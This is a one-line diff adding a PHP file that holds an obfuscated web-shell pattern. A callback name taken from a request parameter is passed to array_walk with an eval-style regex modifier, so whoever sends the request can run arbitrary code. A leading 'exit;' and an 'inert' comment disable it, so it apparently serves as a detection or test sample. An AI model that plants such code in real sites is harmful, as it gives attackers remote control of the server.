@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $e=$_REQUEST["e"]; $arr=array($_POST["p"]=>"|.*|e",); array_walk($arr,$e,"");
